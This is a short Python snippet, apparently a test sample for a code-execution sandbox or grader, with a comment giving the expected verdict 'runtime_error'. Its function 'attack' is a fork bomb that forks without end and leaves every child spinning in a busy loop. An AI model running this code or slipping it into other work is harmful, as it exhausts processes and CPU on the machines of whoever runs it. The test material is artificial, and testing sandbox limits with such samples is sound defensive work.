# Doubles itself until it is refused, and leaves the children spinning.
# verdicts: runtime_error
def attack():
    while True:
        if os.fork() == 0:
            while True:
                pass
